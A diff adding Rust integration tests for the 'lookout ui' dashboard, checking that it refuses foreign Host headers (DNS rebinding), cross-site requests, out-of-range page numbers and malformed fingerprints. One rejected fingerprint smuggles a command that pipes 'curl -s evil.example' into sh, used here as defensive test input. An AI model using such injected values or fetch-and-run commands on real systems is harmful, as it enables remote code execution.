@@ -3,6 +3,8 @@
 //! page says must equal what `lookout top` and `lookout query` say, over either store.
 //!
 //! Needs Debian's `chromium` (`scripts/setup-test-tools` installs it); fails loudly without it.
+//! The guards (the names the page answers for, bounded pages, checked query values) are
+//! checked over plain sockets, with the headers a browser elsewhere would send.
 
 use std::collections::BTreeSet;
 use std::path::{Path, PathBuf};
@@ -13,7 +15,7 @@ use lookout::store::ReportStore;
 use lookout::store::embedded::EmbeddedStore;
 
 use crate::emulator;
-use crate::support::{Process, headless_chromium, run_lookout, spawn_lookout};
+use crate::support::{Process, decode_json, headless_chromium, run_lookout, spawn_lookout};
 
 /// Starts `lookout ui` with `args` on a free port; returns the process and its base URL.
 fn spawn_ui(args: &[&str]) -> (Process, String) {
@@ -261,6 +263,11 @@ fn the_hostile_report_renders_as_text(base: &str) {
     let opened = dom(&format!(
         "{base}/problem?site=hostile.example&window=24h&type={t}&fingerprint={fp}"
     ));
+    let policy = dom(&format!("{base}/policy?site=hostile.example&window=24h"));
+    assert!(
+        policy.contains("id=\"policy\""),
+        "a suggestion from the owner's --policy"
+    );
     assert!(
         opened.contains("&lt;script&gt;document.title="),
         "the URL shown as text"
@@ -286,7 +293,7 @@ async fn the_dashboard_shows_what_top_and_query_say_over_the_embedded_store() {
         store.put(&reports).await.unwrap();
     }
     let data = dir.path().to_str().unwrap();
-    let (_ui, base) = spawn_ui(&["--data", data]);
+    let (_ui, base) = spawn_ui(&["--data", data, "--policy", "default-src 'self'"]);
     the_page_agrees_with_the_command_line(&base, &["--data", data], &sites(&reports));
     the_hostile_report_renders_as_text(&base);
     // The busiest site, as the README shows it (docs/dashboard.png is this screenshot).
@@ -319,4 +326,274 @@ async fn the_dashboard_shows_what_top_and_query_say_over_a_table() {
     let (_ui, base) = spawn_ui(&args);
     the_page_agrees_with_the_command_line(&base, &args, &sites(&reports));
     the_hostile_report_renders_as_text(&base);
+}
+
+/// One GET to the page at `base` over a plain socket, with exactly `headers` (`Host`
+/// included: a browser that reached the page by another name sends that name); the status and
+/// the body. A connection closed without an answer (a handler that panicked) is status 0.
+fn get(base: &str, path: &str, headers: &[(&str, &str)]) -> (u16, String) {
+    use std::io::{Read, Write};
+    let mut stream = std::net::TcpStream::connect(base.trim_start_matches("http://")).unwrap();
+    stream
+        .set_read_timeout(Some(std::time::Duration::from_secs(30)))
+        .unwrap();
+    let mut head = format!("GET {path} HTTP/1.1\r\nConnection: close\r\n");
+    for (k, v) in headers {
+        head.push_str(&format!("{k}: {v}\r\n"));
+    }
+    head.push_str("\r\n");
+    stream.write_all(head.as_bytes()).unwrap();
+    let mut response = Vec::new();
+    let _ = stream.read_to_end(&mut response);
+    let text = String::from_utf8_lossy(&response).into_owned();
+    let status = text
+        .split_whitespace()
+        .nth(1)
+        .and_then(|s| s.parse().ok())
+        .unwrap_or(0);
+    let body = text
+        .split_once("\r\n\r\n")
+        .map(|(_, b)| b.to_owned())
+        .unwrap_or_default();
+    (status, body)
+}
+
+/// The port of `base` (`http://127.0.0.1:PORT`).
+fn port_of(base: &str) -> &str {
+    base.rsplit(':').next().unwrap()
+}
+
+/// Stores `n` problems of `site` in the embedded store at `dir`: one deprecation report each,
+/// named `{prefix}0000`, `{prefix}0001`, ...
+async fn store_problems(dir: &Path, site: &str, prefix: &str, n: usize) {
+    let now = Timestamp::now();
+    let reports: Vec<lookout::report::Report> = (0..n)
+        .flat_map(|i| {
+            let body = serde_json::json!([{
+                "type": "deprecation",
+                "age": 0,
+                "url": format!("https://{site}/"),
+                "body": {"id": format!("{prefix}{i:04}"), "message": "a deprecated feature"}
+            }]);
+            decode_json(&body, site, now)
+        })
+        .collect();
+    assert_eq!(reports.len(), n);
+    let store = EmbeddedStore::open(dir).unwrap();
+    store.put(&reports).await.unwrap();
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_dashboard_answers_only_the_names_it_serves() {
+    let dir = tempfile::tempdir().unwrap();
+    store_problems(dir.path(), "rebind.example", "SiteSecret", 3).await;
+    let (_ui, base) = spawn_ui(&["--data", dir.path().to_str().unwrap()]);
+    let port = port_of(&base);
+    let site = "/?site=rebind.example";
+
+    // A page on attacker.example that pointed its name at 127.0.0.1 (DNS rebinding): every
+    // view, the missing one too, is refused and tells which flag admits a name.
+    for path in [
+        site,
+        "/problem?site=rebind.example&type=deprecation&fingerprint=0123456789abcdef",
+        "/policy?site=rebind.example",
+        "/nowhere",
+    ] {
+        let host = format!("attacker.example:{port}");
+        let (status, body) = get(&base, path, &[("Host", host.as_str())]);
+        assert_eq!(status, 421, "{path}: {body}");
+        assert!(body.contains("--allowed-host"), "{path}: {body}");
+        assert!(
+            !body.contains("SiteSecret") && !body.contains("data-fingerprint"),
+            "{path}: none of the site's data"
+        );
+    }
+    for host in [
+        format!("localhost:{port}"),
+        format!("127.0.0.1:{port}"),
+        format!("[::1]:{port}"),
+        format!("LOCALHOST:{port}"),
+    ] {
+        let (status, body) = get(&base, site, &[("Host", host.as_str())]);
+        assert_eq!(status, 200, "{host}: {body}");
+        assert_eq!(rows(&body).len(), 3, "{host}");
+        assert!(body.contains("SiteSecret0000"), "{host}");
+    }
+    for host in [
+        "localhost:1".to_owned(),
+        "localhost".to_owned(),
+        format!("evil@localhost:{port}"),
+        format!("localhost:{port}.attacker.example"),
+    ] {
+        let (status, body) = get(&base, site, &[("Host", host.as_str())]);
+        assert_eq!(status, 421, "{host}");
+        assert!(!body.contains("SiteSecret"), "{host}");
+    }
+
+    // Sent by another site: refused even to a name the page serves.
+    let local = format!("localhost:{port}");
+    let foreign = format!("http://attacker.example:{port}");
+    for from in [
+        ("Sec-Fetch-Site", "cross-site"),
+        ("Origin", foreign.as_str()),
+    ] {
+        let (status, body) = get(&base, site, &[("Host", local.as_str()), from]);
+        assert_eq!(status, 403, "{from:?}: {body}");
+        assert!(!body.contains("SiteSecret"), "{from:?}");
+    }
+    let own = format!("http://localhost:{port}");
+    for from in [
+        ("Origin", own.as_str()),
+        ("Sec-Fetch-Site", "same-origin"),
+        ("Sec-Fetch-Site", "none"),
+    ] {
+        let (status, _) = get(&base, site, &[("Host", local.as_str()), from]);
+        assert_eq!(status, 200, "{from:?}");
+    }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_name_given_with_allowed_host_is_admitted() {
+    let dir = tempfile::tempdir().unwrap();
+    store_problems(dir.path(), "named.example", "Named", 2).await;
+    let (_ui, base) = spawn_ui(&[
+        "--data",
+        dir.path().to_str().unwrap(),
+        "--allowed-host",
+        "dash.example",
+        "--allowed-host",
+        "other.example:8443",
+    ]);
+    let port = port_of(&base);
+    let site = "/?site=named.example";
+    for host in [
+        format!("dash.example:{port}"),
+        "dash.example".to_owned(),
+        "other.example:8443".to_owned(),
+    ] {
+        let (status, body) = get(&base, site, &[("Host", host.as_str())]);
+        assert_eq!(status, 200, "{host}: {body}");
+        assert_eq!(rows(&body).len(), 2, "{host}");
+    }
+    let origin = format!("http://dash.example:{port}");
+    let host = format!("dash.example:{port}");
+    let (status, _) = get(
+        &base,
+        site,
+        &[("Host", host.as_str()), ("Origin", origin.as_str())],
+    );
+    assert_eq!(status, 200, "the page's own origin");
+    for host in [
+        format!("other.example:{port}"),
+        format!("attacker.example:{port}"),
+    ] {
+        let (status, body) = get(&base, site, &[("Host", host.as_str())]);
+        assert_eq!(status, 421, "{host}");
+        assert!(!body.contains("Named0000"), "{host}");
+    }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn pages_past_the_bound_and_fingerprints_not_hex_are_refused() {
+    let dir = tempfile::tempdir().unwrap();
+    // A store path a shell would split: the page's command lines quote it.
+    let data = dir.path().join("lookout data");
+    store_problems(&data, "pages.example", "Paged", 1).await;
+    let data = data.to_str().unwrap();
+    let (_ui, base) = spawn_ui(&["--data", data]);
+    let host = base.trim_start_matches("http://").to_owned();
+    let headers = [("Host", host.as_str())];
+    let (status, listed) = get(&base, "/?site=pages.example", &headers);
+    assert_eq!(status, 200, "{listed}");
+    let (t, fp, _) = rows(&listed)[0].clone();
+    let problem = format!("/problem?site=pages.example&type={t}&fingerprint={fp}");
+    let (status, opened) = get(&base, &problem, &headers);
+    assert_eq!(status, 200, "{opened}");
+    assert_eq!(attrs(&opened, "<tr data-id=", "data-id").len(), 1);
+    assert!(
+        opened.contains(&format!(
+            "--fingerprint {fp} --since 7d --limit 25 --json --data &#39;{data}&#39;"
+        )),
+        "the command line, its values quoted: {opened}"
+    );
+
+    for page in [
+        "100000000000",
+        "18446744073709551615",
+        "18446744073709551616",
+        "401",
+        "-1",
+        "x",
+    ] {
+        for path in [
+            format!("{problem}&page={page}"),
+            format!("/?site=pages.example&page={page}"),
+        ] {
+            let (status, body) = get(&base, &path, &headers);
+            assert_eq!(status, 400, "{path}: {body}");
+            assert!(body.contains("page is a number from 0 to 400"), "{path}");
+        }
+    }
+    let (status, body) = get(&base, &format!("{problem}&page=400"), &headers);
+    assert_eq!(status, 200, "the last page offered, empty: {body}");
+
+    for fingerprint in [
+        "0123456789abcdef%3Bcurl%20-s%20evil.example%7Csh",
+        "0123456789abcdef;curl",
+        "0123456789ABCDEF",
+        "0123456789abcde",
+        "0123456789abcdef0",
+    ] {
+        let path = format!("/problem?site=pages.example&type={t}&fingerprint={fingerprint}");
+        let (status, body) = get(&base, &path, &headers);
+        assert_eq!(status, 400, "{path}: {body}");
+        assert!(body.contains("16 lowercase hex digits"), "{path}");
+        assert!(!body.contains("curl"), "{path}: never shown as a command");
+    }
+    // Still serving.
+    let (status, _) = get(&base, &problem, &headers);
+    assert_eq!(status, 200);
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_problems_come_a_hundred_a_page() {
+    let dir = tempfile::tempdir().unwrap();
+    store_problems(dir.path(), "many.example", "Feature", 250).await;
+    let data = dir.path().to_str().unwrap();
+    let (_ui, base) = spawn_ui(&["--data", data]);
+    let host = base.trim_start_matches("http://").to_owned();
+    let headers = [("Host", host.as_str())];
+
+    let (status, first) = get(&base, "/?site=many.example", &headers);
+    assert_eq!(status, 200);
+    assert_eq!(rows(&first).len(), 100);
+    assert_eq!(first.matches(r#"<svg class="spark""#).count(), 100);
+    assert!(first.contains(r#"<span id="total-problems">250</span>"#));
+    assert!(!first.contains(r#"id="previous""#));
+    let next = attrs(&first, r#"<a id="next""#, "href");
+    assert_eq!(next, ["/?site=many.example&window=7d&page=1"]);
+
+    let (status, second) = get(&base, &next[0], &headers);
+    assert_eq!(status, 200);
+    assert_eq!(rows(&second).len(), 100);
+    assert!(second.contains(r#"<a id="previous""#) && second.contains(r#"<a id="next""#));
+    let (status, third) = get(&base, "/?site=many.example&window=7d&page=2", &headers);
+    assert_eq!(status, 200);
+    assert_eq!(rows(&third).len(), 50);
+    assert!(!third.contains(r#"id="next""#));
+
+    let shown: BTreeSet<String> = [&first, &second, &third]
+        .into_iter()
+        .flat_map(|page| rows(page).into_iter().map(|r| r.1))
+        .collect();
+    let listed: BTreeSet<String> =
+        top(&["--site", "many.example", "--since", "7d", "--data", data])
+            .into_iter()
+            .map(|r| r.1)
+            .collect();
+    assert_eq!(shown.len(), 250);
+    assert_eq!(
+        shown, listed,
+        "the three pages are every problem, each once"
+    );
 }
